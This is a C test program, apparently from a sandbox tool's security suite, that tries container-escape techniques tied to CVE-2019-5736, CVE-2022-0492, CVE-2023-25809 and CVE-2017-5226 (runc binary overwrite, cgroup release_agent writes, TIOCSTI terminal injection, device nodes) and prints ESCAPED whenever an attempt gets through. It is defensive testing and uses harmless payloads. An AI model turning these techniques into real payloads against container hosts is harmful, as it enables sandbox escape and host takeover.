/*
 * What a hostile workload does that a shell cannot. Every attempt that gets through is a line that
 * begins with ESCAPED; whatever is tried does no harm where it succeeds.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static int put(const char *path, const char *text)
{
	int file = open(path, O_WRONLY | O_CLOEXEC);
	if (file < 0)
		return 0;
	int done = write(file, text, strlen(text)) == (ssize_t)strlen(text);
	close(file);
	return done;
}

/* CVE-2019-5736: the binary of whatever process is to be seen, opened for writing again and again. */
static void open_programs(int milliseconds)
{
	for (int round = 0; round < milliseconds; round++, usleep(1000)) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
			char path[300];
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			int file = isdigit(entry->d_name[0]) ? open(path, O_WRONLY | O_APPEND) : -1;
			if (file < 0)
				continue;
			printf("ESCAPED: %s is open for writing\n", path);
			if (write(file, "#", 1) == 1)
				printf("ESCAPED: %s was written\n", path);
			close(file);
		}
		if (proc != NULL)
			closedir(proc);
	}
}

/* The first process below `parent` that still is tsbox-init, or 0. */
static int find_init(int parent)
{
	int found = 0;
	DIR *proc = opendir("/proc");
	for (struct dirent *entry; proc != NULL && found == 0 && (entry = readdir(proc)) != NULL;) {
		char path[300], text[512] = "";
		snprintf(path, sizeof path, "/proc/%s/stat", entry->d_name);
		int file = isdigit(entry->d_name[0]) ? open(path, O_RDONLY | O_CLOEXEC) : -1;
		long size = file < 0 ? 0 : read(file, text, sizeof text - 1);
		if (file >= 0)
			close(file);
		char *name_end = size > 0 ? strrchr(text, ')') : NULL;
		if (name_end == NULL || atoi(name_end + 4) != parent)
			continue;
		snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
		memset(text, 0, sizeof text);
		if (readlink(path, text, sizeof text - 1) > 0 && strstr(text, "tsbox-init") != NULL)
			found = atoi(entry->d_name);
	}
	if (proc != NULL)
		closedir(proc);
	return found;
}

/* A program that runs cannot be written to: it is held open until it has ended. */
static void overwrite_later(int parent)
{
	char path[64];
	int pid = 0;
	for (int tries = 0; tries < 3000 && pid == 0; tries++, usleep(1000))
		pid = find_init(parent);
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int file = open(path, O_RDONLY);
	if (file < 0) {
		printf("%s: %s\n", path, strerror(errno));
		return;
	}
	snprintf(path, sizeof path, "/proc/self/fd/%d", file);
	for (int tries = 0; tries < 3000; tries++, usleep(1000)) {
		int writable = open(path, O_WRONLY | O_APPEND);
		if (writable < 0 && errno == ETXTBSY)
			continue;
		if (writable >= 0 && write(writable, "#", 1) == 1)
			printf("ESCAPED: the program of process %d was overwritten\n", pid);
		else
			printf("held open, not written: %s\n", strerror(errno));
		return;
	}
}

/* A file that holds 4096 is one of tsbox's own, above the box's cgroup (MOST_CGROUPS of src/plan/cgroup.ts). */
static int is_limit_of_host(const char *path)
{
	char text[16] = "";
	int file = open(path, O_RDONLY);
	long size = file < 0 ? -1 : read(file, text, sizeof text - 1);
	if (file >= 0)
		close(file);
	return size > 0 && strcmp(text, "4096\n") == 0;
}

static void try_cgroup(const char *where)
{
	static const char *const names[] = {"", "/..", "/../..", "/box"};
	char path[300];
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		snprintf(path, sizeof path, "%s%s/cgroup.max.descendants", where, names[i]);
		if (is_limit_of_host(path) && put(path, "4097"))
			printf("ESCAPED: the limit %s was raised\n", path);
		snprintf(path, sizeof path, "%s%s/release_agent", where, names[i]);
		if (put(path, "/nothing"))
			printf("ESCAPED: %s was written\n", path);
	}
}

/* Whether system calls are filtered: the last line of defence named below. */
static int has_filter(void)
{
	char text[4096] = "";
	int file = open("/proc/self/status", O_RDONLY | O_CLOEXEC);
	long size = read(file, text, sizeof text - 1);
	close(file);
	return size > 0 && strstr(text, "Seccomp:\t2") != NULL;
}

/*
 * On a host with both versions a box has no cgroup of its own in those of version 1, so that what it
 * mounts of them in namespaces of its own is the host's root: writable to the host's root user, unless
 * ids are mapped or a filter refuses it those namespaces.
 */
/* CVE-2023-25809, CVE-2022-0492: in every combination of namespaces, cgroups mounted anew and written to. */
static void write_cgroups(void)
{
	static const int kinds[] = {CLONE_NEWUSER, CLONE_NEWCGROUP, CLONE_NEWNS};
	for (int combination = 0; combination < 8; combination++) {
		int flags = 0;
		for (int i = 0; i < 3; i++)
			flags |= combination & 1 << i ? kinds[i] : 0;
		if (fork() == 0) {
			int outside = (int)getuid();
			if (unshare(flags) != 0)
				_exit(1);
			if (flags & CLONE_NEWUSER) {
				char map[32];
				snprintf(map, sizeof map, "0 %d 1", outside);
				put("/proc/self/uid_map", map);
			}
			mkdir("/tmp/cgroup", 0755);
			mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
			mount("none", "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL);
			if (mount("cgroup", "/tmp/cgroup", "cgroup2", 0, NULL) == 0)
				try_cgroup("/tmp/cgroup");
			if (mount("cgroup", "/tmp/cgroup", "cgroup", 0, "pids") == 0)
				printf("%s: version 1 is mounted\n", access("/tmp/cgroup/cgroup.procs", W_OK) != 0 ? "harmless" : has_filter() ? "ESCAPED" : "KNOWN");
			try_cgroup("/sys/fs/cgroup");
			_exit(0);
		}
		wait(NULL);
	}
}

/* CVE-2017-5226: what is pushed into the terminal is read by the caller's shell. */
static void type_into_terminal(void)
{
	static const char words[] = "echo ESCAPED\n";
	for (const char *letter = words; *letter != 0; letter++)
		if (ioctl(0, TIOCSTI, letter) != 0) {
			printf("TIOCSTI: %s\n", strerror(errno));
			return;
		}
	printf("ESCAPED: typed\n");
}

/* Nodes of devices made by the workload itself, in every place where it can write; only opened, to read. */
static void make_devices(void)
{
	static const struct {
		int kind, major, minor;
	} devices[] = {{S_IFCHR, 1, 11}, {S_IFCHR, 1, 4}, {S_IFBLK, 254, 0}, {S_IFBLK, 8, 0}, {S_IFBLK, 7, 0}, {S_IFCHR, 10, 237}};
	static const char *const places[] = {"/", "/tmp", "/dev", "/dev/shm", "/t", "/v"};
	for (size_t i = 0; i < sizeof devices / sizeof *devices; i++)
		for (size_t k = 0; k < sizeof places / sizeof *places; k++) {
			char path[64];
			snprintf(path, sizeof path, "%s/hostile-node", places[k]);
			unlink(path);
			if (mknod(path, devices[i].kind | 0600, makedev(devices[i].major, devices[i].minor)) != 0)
				continue;
			int file = open(path, O_RDONLY | O_NONBLOCK);
			if (file >= 0 || (errno != EACCES && errno != EPERM))
				printf("ESCAPED: device %d:%d in %s is there to be opened\n", devices[i].major, devices[i].minor, places[k]);
			if (file >= 0)
				close(file);
			unlink(path);
		}
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	setvbuf(stdout, NULL, _IONBF, 0);
	if (strcmp(what, "programs") == 0)
		open_programs(argc > 2 ? atoi(argv[2]) : 50);
	else if (strcmp(what, "overwrite-later") == 0 && argc > 2)
		overwrite_later(atoi(argv[2]));
	else if (strcmp(what, "cgroups") == 0)
		write_cgroups();
	else if (strcmp(what, "terminal") == 0)
		type_into_terminal();
	else if (strcmp(what, "devices") == 0)
		make_devices();
	else if (strcmp(what, "privilege") == 0 && (geteuid() == 0 || getegid() == 0))
		printf("ESCAPED: a set-user-id program became root\n");
	else
		return strcmp(what, "privilege") == 0 ? 0 : 2;
	return 0;
}
